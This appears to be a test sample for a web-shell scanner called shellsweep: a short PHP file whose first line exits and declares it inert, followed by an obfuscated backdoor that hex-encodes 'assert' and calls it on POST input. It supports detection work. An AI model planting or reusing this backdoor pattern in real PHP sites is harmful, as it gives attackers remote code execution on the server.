<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$s = "\x61\x73\x73\x65\x72\x74";
$s($_POST['t']);
